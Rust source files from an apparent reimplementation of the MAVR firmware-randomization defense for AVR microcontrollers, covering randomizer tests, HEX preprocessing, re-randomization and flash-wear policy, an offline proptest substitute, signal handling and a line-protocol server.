            &r.image.bytes[bl.addr as usize..bl.end() as usize],
            &img.bytes[bl.addr as usize..bl.end() as usize],
            "fixed code must be byte-identical"
        );
        // And the whole thing still runs.
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        m.run(1_000_000);
        assert!(m.fault().is_none());
    }

    #[test]
    fn unconstrained_shuffle_breaks_icall_reach() {
        // Why the constraint exists: without it, some shuffle of a >128 KiB
        // image strands a pointer-called function beyond the 16-bit word
        // address a function-pointer slot can express.
        let img = build(&apps::synth_rover(), &BuildOptions::safe_mavr())
            .unwrap()
            .image;
        let opts = RandomizeOptions {
            constrain_icall_targets: false,
            ..Default::default()
        };
        // A function beyond the reach limit cannot be represented in the
        // 16-bit pointer slot: the stored word address silently truncates,
        // so detect the breakage by comparing each slot against the actual
        // address of the function it is supposed to reference.
        let broken = (0..10u64).any(|seed| {
            let r = randomize(&img, &mut crate::seeded_rng(seed), &opts).unwrap();
            r.image.fn_ptr_locs.iter().any(|&loc| {
                let slot_byte = u32::from(r.image.read_word(loc)) * 2;
                // The slot should point at the *start* of some function.
                r.image
                    .symbol_containing(slot_byte)
                    .map(|s| s.addr != slot_byte)
                    .unwrap_or(true)
            })
        });
        assert!(
            broken,
            "within a few seeds an unconstrained shuffle should corrupt a pointer slot"
        );
    }

    #[test]
    fn empty_movable_set_is_identity() {
        let mut img = tiny();
        for s in &mut img.symbols {
            s.kind = SymbolKind::Fixed;
        }
        let r = randomize(
            &img,
            &mut crate::seeded_rng(0),
            &RandomizeOptions::default(),
        )
        .unwrap();
        assert_eq!(r.image.bytes, img.bytes);
        assert!(r.permutation.is_empty());
    }
}
