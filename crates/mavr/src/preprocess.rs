//! The host-side preprocessing phase (§V-B1, §VI-B2).
//!
//! On the real system this parses the pre-strip ELF for function symbols
//! and scans the data sections for function pointers, then prepends that
//! information to the Intel HEX file. Our assembler substrate already
//! carries both in [`FirmwareImage`]; preprocessing validates the image and
//! packages it as the on-the-wire [`MavrContainer`] uploaded to the
//! external flash chip — plus the `strip` helper that models what the
//! stock flash utility would upload (no symbols), used to show the
//! container is still plain HEX.

use avr_core::image::{FirmwareImage, SymbolKind};
use hexfile::MavrContainer;

/// Errors from preprocessing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PreprocessError {
    /// The image failed structural validation.
    InvalidImage(String),
    /// The image has no movable functions to randomize.
    NothingToRandomize,
    /// A recorded function-pointer slot does not point at a function.
    DanglingFunctionPointer {
        /// Flash byte offset of the slot.
        loc: u32,
    },
}

impl std::fmt::Display for PreprocessError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PreprocessError::InvalidImage(why) => write!(f, "invalid image: {why}"),
            PreprocessError::NothingToRandomize => write!(f, "no movable function symbols"),
            PreprocessError::DanglingFunctionPointer { loc } => {
                write!(
                    f,
                    "function pointer at {loc:#x} points outside all functions"
                )
            }
        }
    }
}

impl std::error::Error for PreprocessError {}

/// Validate `image` and package it for upload to the MAVR external flash.
pub fn preprocess(image: &FirmwareImage) -> Result<MavrContainer, PreprocessError> {
    image.validate().map_err(PreprocessError::InvalidImage)?;
    if image.function_count() == 0 {
        return Err(PreprocessError::NothingToRandomize);
    }
    for &loc in &image.fn_ptr_locs {
        let word = image.read_word(loc);
        let target = u32::from(word) * 2;
        match image.symbol_containing(target) {
            Some(s) if s.kind == SymbolKind::Function || s.kind == SymbolKind::Fixed => {}
            _ => return Err(PreprocessError::DanglingFunctionPointer { loc }),
        }
    }
    Ok(MavrContainer::new(image.clone()))
}

/// The stock flash utility's view: the same program bytes with all symbol
/// information stripped (what an attacker exfiltrating the upload archive
/// would minimally hold — though the paper's threat model grants them the
/// full binary anyway).
pub fn strip(image: &FirmwareImage) -> FirmwareImage {
    FirmwareImage {
        device: image.device,
        bytes: image.bytes.clone(),
        symbols: Vec::new(),
        text_end: image.text_end,
        fn_ptr_locs: Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth_firmware::{apps, build, BuildOptions};

    fn tiny() -> FirmwareImage {
        build(&apps::tiny_test_app(), &BuildOptions::safe_mavr())
            .unwrap()
            .image
    }

    #[test]
    fn container_round_trips_through_text() {
        let img = tiny();
        let container = preprocess(&img).unwrap();
        let text = container.to_text();
        let parsed = MavrContainer::parse(&text).unwrap();
        assert_eq!(parsed.image, img);
        // And the container is still a loadable plain HEX file.
        let (base, bytes) = hexfile::parse_ihex(&text).unwrap();
        assert_eq!(base, 0);
        assert_eq!(bytes, img.bytes);
    }

    #[test]
    fn stripped_image_loses_symbols_only() {
        let img = tiny();
        let s = strip(&img);
        assert_eq!(s.bytes, img.bytes);
        assert!(s.symbols.is_empty());
        assert_eq!(s.function_count(), 0);
    }

    #[test]
    fn rejects_symbolless_image() {
        let img = strip(&tiny());
        assert_eq!(
            preprocess(&img).unwrap_err(),
            PreprocessError::NothingToRandomize
        );
    }

    #[test]
    fn rejects_dangling_pointer() {
        let mut img = tiny();
        // Corrupt a pointer slot to aim past the image.
        let loc = img.fn_ptr_locs[0];
        img.write_word(loc, 0xfff0);
        assert!(matches!(
            preprocess(&img).unwrap_err(),
            PreprocessError::DanglingFunctionPointer { .. }
        ));
    }

    #[test]
    fn rejects_invalid_image() {
        let mut img = tiny();
        img.text_end = img.code_size() + 2;
        assert!(matches!(
            preprocess(&img).unwrap_err(),
            PreprocessError::InvalidImage(_)
        ));
    }
}
