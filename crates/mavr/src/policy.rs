//! Randomization frequency policy and flash-wear accounting (§V-C, §VI-A).
//!
//! "Randomizing frequently, such as at every application restart, will
//! result in a stronger defense. However, since every randomization will
//! require the application processor to be reprogrammed, this will
//! significantly reduce the lifetime of the processor" — the ATmega2560
//! flash endures ~10,000 program cycles.

/// When the master processor re-randomizes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RandomizationPolicy {
    /// Re-randomize every `n` boots (1 = every boot).
    pub every_n_boots: u32,
    /// Always re-randomize immediately after a detected failed attack —
    /// the paper mandates this (§V-C): "upon detection of any failed ROP
    /// attack, the binary is immediately randomized again".
    pub on_attack: bool,
}

impl Default for RandomizationPolicy {
    fn default() -> Self {
        RandomizationPolicy {
            every_n_boots: 10,
            on_attack: true,
        }
    }
}

impl RandomizationPolicy {
    /// Decide whether boot number `boot` (1-based) following
    /// `attack_detected` requires a fresh randomization.
    pub fn should_randomize(&self, boot: u32, attack_detected: bool) -> bool {
        if attack_detected && self.on_attack {
            return true;
        }
        boot == 1
            || (self.every_n_boots > 0 && boot % self.every_n_boots == 1)
            || self.every_n_boots == 1
    }

    /// Expected flash program cycles consumed per `boots` boots under this
    /// policy, assuming `attacks` of them were attack-triggered.
    pub fn programming_cycles(&self, boots: u32, attacks: u32) -> u32 {
        let periodic = if self.every_n_boots == 0 {
            1
        } else {
            boots.div_ceil(self.every_n_boots)
        };
        periodic + if self.on_attack { attacks } else { 0 }
    }

    /// Device lifetime in boots before the flash endurance budget is
    /// exhausted, assuming an attack fraction of `attack_rate` per boot.
    pub fn lifetime_boots(&self, endurance_cycles: u32, attack_rate: f64) -> f64 {
        let per_boot =
            1.0 / self.every_n_boots.max(1) as f64 + if self.on_attack { attack_rate } else { 0.0 };
        endurance_cycles as f64 / per_boot
    }
}

/// Tracks flash wear on the application processor.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FlashWear {
    /// Program/erase cycles consumed so far.
    pub cycles_used: u32,
}

impl FlashWear {
    /// Record one reprogramming.
    pub fn program(&mut self) {
        self.cycles_used += 1;
    }

    /// Remaining endurance (the ATmega2560 budget is 10,000 cycles).
    pub fn remaining(&self, endurance: u32) -> u32 {
        endurance.saturating_sub(self.cycles_used)
    }

    /// Whether the part is past its rated endurance.
    pub fn exhausted(&self, endurance: u32) -> bool {
        self.cycles_used >= endurance
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use avr_core::device::ATMEGA2560;

    #[test]
    fn every_boot_policy() {
        let p = RandomizationPolicy {
            every_n_boots: 1,
            on_attack: true,
        };
        for boot in 1..20 {
            assert!(p.should_randomize(boot, false));
        }
    }

    #[test]
    fn periodic_policy() {
        let p = RandomizationPolicy {
            every_n_boots: 10,
            on_attack: true,
        };
        assert!(p.should_randomize(1, false), "first boot always randomizes");
        assert!(!p.should_randomize(2, false));
        assert!(!p.should_randomize(10, false));
        assert!(p.should_randomize(11, false));
        assert!(
            p.should_randomize(5, true),
            "attack forces re-randomization"
        );
    }

    #[test]
    fn wear_accounting() {
        let endurance = ATMEGA2560.flash_endurance_cycles;
        let mut w = FlashWear::default();
        for _ in 0..100 {
            w.program();
        }
        assert_eq!(w.cycles_used, 100);
        assert_eq!(w.remaining(endurance), 9_900);
        assert!(!w.exhausted(endurance));
        w.cycles_used = endurance;
        assert!(w.exhausted(endurance));
        assert_eq!(w.remaining(endurance), 0);
    }

    #[test]
    fn lifetime_tradeoff() {
        // Every-boot randomization: 10k boots. Every-10-boots: 100k boots
        // (minus attack-triggered reflashes).
        let every_boot = RandomizationPolicy {
            every_n_boots: 1,
            on_attack: true,
        };
        let periodic = RandomizationPolicy {
            every_n_boots: 10,
            on_attack: true,
        };
        let e = ATMEGA2560.flash_endurance_cycles;
        assert_eq!(every_boot.lifetime_boots(e, 0.0), 10_000.0);
        assert_eq!(periodic.lifetime_boots(e, 0.0), 100_000.0);
        assert!(periodic.lifetime_boots(e, 0.05) < 100_000.0);
    }

    #[test]
    fn programming_cycle_counts() {
        let p = RandomizationPolicy {
            every_n_boots: 10,
            on_attack: true,
        };
        assert_eq!(p.programming_cycles(100, 0), 10);
        assert_eq!(p.programming_cycles(100, 7), 17);
        let no_attack_response = RandomizationPolicy {
            every_n_boots: 10,
            on_attack: false,
        };
        assert_eq!(no_attack_response.programming_cycles(100, 7), 10);
    }
}
