//! Offline stand-in for the `proptest` crate.
//!
//! The build container has no crates.io access, so this crate reimplements
//! the slice of proptest the workspace's property tests use: the
//! [`Strategy`] trait with `prop_map` / `prop_flat_map` / `prop_filter`,
//! range and tuple strategies, [`collection::vec`], [`prelude::Just`],
//! `prop_oneof!`, `proptest!` with `#![proptest_config(..)]`, and the
//! `prop_assert*` macros.
//!
//! Differences from real proptest, deliberately accepted:
//!
//! * **No shrinking.** A failing case panics with the generated inputs in
//!   scope; rerunning is deterministic (the per-test RNG is seeded from the
//!   test's name), so failures reproduce exactly.
//! * **Generation only.** There is no persistence of failing seeds and no
//!   `prop_assume` rejection bookkeeping beyond a retry cap.

#![forbid(unsafe_code)]

use rand::rngs::StdRng;
use rand::SeedableRng;

pub mod collection;
pub mod strategy;
pub mod test_runner;

/// The glob import every property test starts with.
pub mod prelude {
    pub use crate::strategy::{any, BoxedStrategy, Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// The deterministic RNG driving generation (xoshiro256++ via the vendored
/// `rand` shim).
pub type TestRng = StdRng;

/// Seed a [`TestRng`] for a named test: FNV-1a over the name, so every test
/// function explores a distinct but reproducible stream.
pub fn rng_for_test(name: &str) -> TestRng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.as_bytes() {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    StdRng::seed_from_u64(h)
}

/// Run `cases` generated inputs through `body`. Used by the [`proptest!`]
/// macro; not public API of real proptest.
#[macro_export]
macro_rules! __proptest_case {
    ($cfg:expr, $name:expr, ( $($arg:pat),* ), ( $($strat:expr),* ), $body:block) => {{
        let cfg: $crate::test_runner::ProptestConfig = $cfg;
        let mut rng = $crate::rng_for_test($name);
        for __case in 0..cfg.cases {
            $(
                let $arg = $crate::strategy::Strategy::generate(&($strat), &mut rng);
            )*
            $body
        }
    }};
}

/// The `proptest!` macro: each contained `fn name(pat in strategy, ..)`
/// becomes a `#[test]`-style function running `cases` generated inputs.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest!(@funcs ($cfg) $($rest)*);
    };
    (@funcs ($cfg:expr) $( $(#[$meta:meta])* fn $name:ident ( $($arg:pat in $strat:expr),* $(,)? ) $body:block )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                $crate::__proptest_case!($cfg, stringify!($name), ($($arg),*), ($($strat),*), $body);
            }
        )*
    };
    ($($rest:tt)*) => {
        $crate::proptest!(@funcs ($crate::test_runner::ProptestConfig::default()) $($rest)*);
    };
}

/// Assert inside a property test; panics with the formatted message.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)*) => { assert!($cond, $($fmt)*) };
}

/// Equality assertion inside a property test.
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_eq!($a, $b, $($fmt)*) };
}

/// Inequality assertion inside a property test.
#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_ne!($a, $b, $($fmt)*) };
}

/// Uniform choice between strategies producing the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($strat)),+
        ])
    };
}
