//! The [`Strategy`] trait and the combinators the workspace uses.

use crate::TestRng;
use rand::Rng;

/// A recipe for generating values of one type.
///
/// Unlike real proptest there is no value tree / shrinking: `generate`
/// produces a single concrete value from the test RNG.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Produce one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Transform generated values.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    /// Generate a value, then generate from a strategy derived from it.
    fn prop_flat_map<S2, F>(self, f: F) -> FlatMap<Self, F>
    where
        Self: Sized,
        S2: Strategy,
        F: Fn(Self::Value) -> S2,
    {
        FlatMap { inner: self, f }
    }

    /// Keep only values satisfying `pred`, retrying generation. Panics if
    /// 1000 consecutive candidates are rejected (a degenerate filter).
    fn prop_filter<F>(self, whence: impl Into<String>, pred: F) -> Filter<Self, F>
    where
        Self: Sized,
        F: Fn(&Self::Value) -> bool,
    {
        Filter {
            inner: self,
            reason: whence.into(),
            pred,
        }
    }

    /// Type-erase the strategy.
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        BoxedStrategy {
            inner: std::rc::Rc::new(self),
        }
    }
}

/// Strategy for "any value of `T`" — the full domain of the type.
pub fn any<T: Arbitrary>() -> ArbitraryStrategy<T> {
    ArbitraryStrategy(std::marker::PhantomData)
}

/// Types with a canonical full-domain strategy.
pub trait Arbitrary: Sized {
    /// Generate a uniform value over the whole domain.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_std {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.random()
            }
        }
    )*};
}
impl_arbitrary_std!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool);

impl Arbitrary for f32 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        // Mix of ordinary finite values and special values, so filters like
        // `is_finite` earn their keep.
        match rng.random_range(0..16u8) {
            0 => f32::NAN,
            1 => f32::INFINITY,
            2 => f32::NEG_INFINITY,
            3 => 0.0,
            _ => {
                f32::from_bits(rng.random::<u32>() & 0x7f7f_ffff)
                    * if rng.random::<bool>() { 1.0 } else { -1.0 }
            }
        }
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        match rng.random_range(0..16u8) {
            0 => f64::NAN,
            1 => f64::INFINITY,
            2 => f64::NEG_INFINITY,
            3 => 0.0,
            _ => {
                let v: f64 = rng.random();
                (v - 0.5) * 2e12
            }
        }
    }
}

/// See [`any`].
pub struct ArbitraryStrategy<T>(std::marker::PhantomData<T>);

impl<T: Arbitrary> Strategy for ArbitraryStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// A strategy that always yields a clone of one value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.random_range(self.clone())
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.random_range(self.clone())
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_float_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty float range");
                let unit: f64 = rng.random();
                let v = (self.start as f64
                    + (self.end as f64 - self.start as f64) * unit) as $t;
                // Rounding to $t can land exactly on the exclusive end.
                if v < self.end { v.max(self.start) } else { self.start }
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                let unit: f64 = rng.random();
                ((lo as f64 + (hi as f64 - lo as f64) * unit) as $t).clamp(lo, hi)
            }
        }
    )*};
}
impl_float_range_strategy!(f32, f64);

/// See [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// See [`Strategy::prop_flat_map`].
pub struct FlatMap<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, S2: Strategy, F: Fn(S::Value) -> S2> Strategy for FlatMap<S, F> {
    type Value = S2::Value;
    fn generate(&self, rng: &mut TestRng) -> S2::Value {
        (self.f)(self.inner.generate(rng)).generate(rng)
    }
}

/// See [`Strategy::prop_filter`].
pub struct Filter<S, F> {
    inner: S,
    reason: String,
    pred: F,
}

impl<S: Strategy, F: Fn(&S::Value) -> bool> Strategy for Filter<S, F> {
    type Value = S::Value;
    fn generate(&self, rng: &mut TestRng) -> S::Value {
        for _ in 0..1000 {
            let v = self.inner.generate(rng);
            if (self.pred)(&v) {
                return v;
            }
        }
        panic!(
            "prop_filter rejected 1000 consecutive values: {}",
            self.reason
        );
    }
}

macro_rules! impl_tuple_strategy {
    ($(($($s:ident . $idx:tt),+)),+ $(,)?) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )+};
}
impl_tuple_strategy!(
    (A.0),
    (A.0, B.1),
    (A.0, B.1, C.2),
    (A.0, B.1, C.2, D.3),
    (A.0, B.1, C.2, D.3, E.4),
    (A.0, B.1, C.2, D.3, E.4, F.5),
);

/// A reference-counted, type-erased strategy (clonable so `prop_oneof!`
/// arms can be stored uniformly).
pub struct BoxedStrategy<T> {
    inner: std::rc::Rc<dyn DynStrategy<T>>,
}

impl<T> Clone for BoxedStrategy<T> {
    fn clone(&self) -> Self {
        BoxedStrategy {
            inner: std::rc::Rc::clone(&self.inner),
        }
    }
}

trait DynStrategy<T> {
    fn generate_dyn(&self, rng: &mut TestRng) -> T;
}

impl<S: Strategy> DynStrategy<S::Value> for S {
    fn generate_dyn(&self, rng: &mut TestRng) -> S::Value {
        self.generate(rng)
    }
}

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        self.inner.generate_dyn(rng)
    }
}

/// Uniform choice over type-erased strategies; built by `prop_oneof!`.
pub struct Union<T> {
    arms: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// Build from the macro's collected arms.
    ///
    /// # Panics
    ///
    /// Panics if `arms` is empty.
    pub fn new(arms: Vec<BoxedStrategy<T>>) -> Self {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Union { arms }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        let i = rng.random_range(0..self.arms.len());
        self.arms[i].generate(rng)
    }
}
