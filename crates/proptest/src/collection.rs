//! Collection strategies (`proptest::collection::vec`).

use crate::strategy::Strategy;
use crate::TestRng;
use rand::Rng;

/// Length specifications accepted by [`vec`].
pub trait IntoSizeRange {
    /// Lower and inclusive upper bound on the length.
    fn bounds(&self) -> (usize, usize);
}

impl IntoSizeRange for usize {
    fn bounds(&self) -> (usize, usize) {
        (*self, *self)
    }
}

impl IntoSizeRange for core::ops::Range<usize> {
    fn bounds(&self) -> (usize, usize) {
        assert!(self.start < self.end, "empty vec length range");
        (self.start, self.end - 1)
    }
}

impl IntoSizeRange for core::ops::RangeInclusive<usize> {
    fn bounds(&self) -> (usize, usize) {
        (*self.start(), *self.end())
    }
}

/// Strategy for `Vec<T>` with element strategy `element` and a length drawn
/// from `size`.
pub fn vec<S: Strategy>(element: S, size: impl IntoSizeRange) -> VecStrategy<S> {
    let (min, max) = size.bounds();
    VecStrategy { element, min, max }
}

/// See [`vec`].
pub struct VecStrategy<S> {
    element: S,
    min: usize,
    max: usize,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let len = rng.random_range(self.min..=self.max);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}
