//! Test-runner configuration.

/// How many cases a `proptest!` test runs, settable per block with
/// `#![proptest_config(ProptestConfig::with_cases(n))]`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProptestConfig {
    /// Number of generated cases per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// Config running `cases` cases.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Real proptest defaults to 256; 64 keeps the CPU-heavy machine
        // simulations in this workspace fast while still exploring widely.
        ProptestConfig { cases: 64 }
    }
}
