//! Graceful interruption: SIGINT/SIGTERM set a shared flag instead of
//! killing the process, so the campaign engine stops claiming jobs,
//! finishes the boards in flight, and flushes a valid checkpoint before
//! exit. Ctrl-C never costs more than the in-flight slice.
//!
//! No `libc` crate exists in this offline workspace, so the two needed
//! symbols are declared directly; this is the only unsafe code in the
//! service.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, OnceLock};

#[cfg(unix)]
mod ffi {
    /// POSIX signal numbers (identical across Linux and the BSDs).
    pub const SIGINT: i32 = 2;
    /// Termination request (what `kill` and service managers send).
    pub const SIGTERM: i32 = 15;

    #[allow(unsafe_code)]
    extern "C" {
        /// `signal(2)`. The handler is an `extern "C" fn(i32)` passed as a
        /// pointer-sized value; we never inspect the previous handler.
        pub fn signal(signum: i32, handler: usize) -> usize;
    }
}

static FLAG: OnceLock<Arc<AtomicBool>> = OnceLock::new();

#[cfg(unix)]
extern "C" fn on_signal(_signum: i32) {
    // Async-signal-safe: one relaxed store, no allocation, no locks.
    if let Some(flag) = FLAG.get() {
        flag.store(true, Ordering::Relaxed);
    }
}

/// Install SIGINT/SIGTERM handlers (idempotent) and return the shared
/// flag they set — wire it into [`mavr_fleet::CampaignConfig::interrupt`]
/// or [`crate::proto::Service`]. On non-Unix targets this returns a flag
/// nothing sets.
pub fn install() -> Arc<AtomicBool> {
    let flag = Arc::clone(FLAG.get_or_init(|| Arc::new(AtomicBool::new(false))));
    #[cfg(unix)]
    #[allow(unsafe_code)]
    unsafe {
        let handler = on_signal as extern "C" fn(i32) as usize;
        ffi::signal(ffi::SIGINT, handler);
        ffi::signal(ffi::SIGTERM, handler);
    }
    flag
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;

    #[allow(unsafe_code)]
    extern "C" {
        fn raise(signum: i32) -> i32;
    }

    #[test]
    fn sigint_sets_the_flag_instead_of_killing_the_process() {
        let flag = install();
        assert_eq!(
            Arc::as_ptr(&flag),
            Arc::as_ptr(&install()),
            "install is idempotent — one flag process-wide"
        );
        #[allow(unsafe_code)]
        unsafe {
            raise(ffi::SIGINT);
        }
        assert!(flag.load(Ordering::Relaxed), "handler set the flag");
        // The process is alive to make this assertion — graceful by
        // construction.
    }
}
