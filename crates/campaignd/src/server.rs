//! Transports for the control protocol: stdio (pipes, tests, CI) and a
//! multi-worker Unix domain socket server (long-running service).
//!
//! Both speak the same line protocol ([`crate::proto`]) with the same
//! guardrails: a request line longer than [`ServeOptions::max_line`] gets
//! a typed error (and the connection stays open), and a malformed line
//! never kills the service. The socket server adds supervision: a pool of
//! protocol workers drains a *bounded* connection queue (overflow gets a
//! typed `busy` response instead of an unbounded backlog), every
//! connection carries a wall-clock deadline so an idle client cannot pin
//! a worker, and a dedicated executor thread runs pending campaign
//! shards the whole time — `status` answers mid-shard. On interrupt
//! (SIGINT/SIGTERM via [`crate::signal::install`]) the in-flight slice
//! flushes its checkpoint and every thread exits cleanly.

use crate::proto::{Control, Service};
use std::collections::VecDeque;
use std::io::{BufRead, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Condvar, Mutex, PoisonError};
use std::time::{Duration, Instant};

/// Default cap on one request line; far above any legitimate spec, far
/// below anything that could pressure memory.
pub const MAX_REQUEST_BYTES: usize = 1 << 20;

/// Socket-server tuning knobs. The defaults suit a local workstation
/// service; tests shrink them to force the guardrails to fire.
#[derive(Debug, Clone)]
pub struct ServeOptions {
    /// Protocol worker threads draining the connection queue.
    pub workers: usize,
    /// Connections allowed in flight (queued + being served) before new
    /// ones get the typed `busy` response.
    pub queue_depth: usize,
    /// Wall-clock budget per connection.
    pub conn_deadline: Duration,
    /// Request-line size cap in bytes.
    pub max_line: usize,
}

impl Default for ServeOptions {
    fn default() -> Self {
        ServeOptions {
            workers: 2,
            queue_depth: 16,
            conn_deadline: Duration::from_secs(10),
            max_line: MAX_REQUEST_BYTES,
        }
    }
}

/// Serve the protocol over arbitrary line streams (stdio in production,
/// strings in tests). Returns when the input ends or a `shutdown` request
/// arrives. No background work runs in this mode — drive execution with
/// explicit `run` requests.
pub fn serve_lines(
    service: &Service,
    input: impl BufRead,
    mut output: impl Write,
) -> Result<(), String> {
    serve_stream(service, input, &mut output, MAX_REQUEST_BYTES, None).map(|_| ())
}

/// One typed error line, matching [`Service::handle_line`]'s shape.
fn error_line(error: &str) -> String {
    use crate::json::Json;
    Json::Obj(vec![
        ("ok".into(), Json::Bool(false)),
        ("error".into(), Json::str(error)),
    ])
    .to_text()
}

/// Drive one request/response stream to completion: bounded line reads,
/// optional wall deadline, timeouts treated as polls. The shared engine
/// behind both `serve_lines` and each socket connection.
fn serve_stream(
    service: &Service,
    mut reader: impl BufRead,
    writer: &mut impl Write,
    max_line: usize,
    deadline: Option<Instant>,
) -> Result<Control, String> {
    let wfail = |e: std::io::Error| format!("write response: {e}");
    let mut buf: Vec<u8> = Vec::new();
    // Once a line overflows the cap we answer immediately and discard the
    // rest of it, so the *next* line parses cleanly.
    let mut skipping = false;
    loop {
        if deadline.is_some_and(|d| Instant::now() > d) {
            writeln!(writer, "{}", error_line("connection deadline exceeded")).map_err(wfail)?;
            return Ok(Control::Continue);
        }
        let chunk = match reader.fill_buf() {
            Ok(chunk) => chunk,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                continue; // poll: re-check the deadline, then read again
            }
            Err(e) => return Err(format!("read request: {e}")),
        };
        if chunk.is_empty() {
            return Ok(Control::Continue); // EOF
        }
        match chunk.iter().position(|&b| b == b'\n') {
            Some(pos) => {
                if !skipping {
                    buf.extend_from_slice(&chunk[..pos]);
                }
                reader.consume(pos + 1);
                let oversized = !skipping && buf.len() > max_line;
                let done = std::mem::take(&mut buf);
                let was_skipping = std::mem::take(&mut skipping);
                if was_skipping {
                    continue; // tail of an already-reported oversized line
                }
                if oversized {
                    service.stats().oversized.fetch_add(1, Ordering::Relaxed);
                    writeln!(
                        writer,
                        "{}",
                        error_line(&format!("request exceeds {max_line} bytes"))
                    )
                    .map_err(wfail)?;
                    continue;
                }
                let line = String::from_utf8_lossy(&done);
                let line = line.trim();
                if line.is_empty() {
                    continue;
                }
                let (response, control) = service.handle_line(line);
                writeln!(writer, "{response}").map_err(wfail)?;
                writer.flush().map_err(|e| format!("flush response: {e}"))?;
                if control == Control::Shutdown {
                    return Ok(Control::Shutdown);
                }
            }
            None => {
                let n = chunk.len();
                if !skipping {
                    buf.extend_from_slice(chunk);
                    if buf.len() > max_line {
                        skipping = true;
                        buf.clear();
                        service.stats().oversized.fetch_add(1, Ordering::Relaxed);
                        writeln!(
                            writer,
                            "{}",
                            error_line(&format!("request exceeds {max_line} bytes"))
                        )
                        .map_err(wfail)?;
                    }
                }
                reader.consume(n);
            }
        }
    }
}

/// The bounded hand-off between the accept loop and protocol workers.
struct ConnQueue<T> {
    inner: Mutex<VecDeque<T>>,
    ready: Condvar,
}

impl<T> ConnQueue<T> {
    fn new() -> Self {
        ConnQueue {
            inner: Mutex::new(VecDeque::new()),
            ready: Condvar::new(),
        }
    }

